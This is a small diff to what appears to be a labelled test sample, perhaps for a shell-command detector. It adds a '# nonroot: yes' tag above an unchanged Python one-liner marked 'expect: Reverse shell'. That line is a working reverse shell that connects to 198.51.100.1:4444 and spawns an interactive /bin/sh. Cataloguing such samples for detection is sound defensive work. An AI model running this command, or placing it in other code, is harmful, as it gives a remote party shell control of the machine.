@@ -5,4 +5,5 @@
 # expect: Reverse shell
 # needs: python
 # peer: 198.51.100.1:4444
+# nonroot: yes
 python3 -c "import os, socket; s = socket.create_connection(('198.51.100.1', 4444)); [os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]; os.execv('/bin/sh', ['sh', '-i'])"
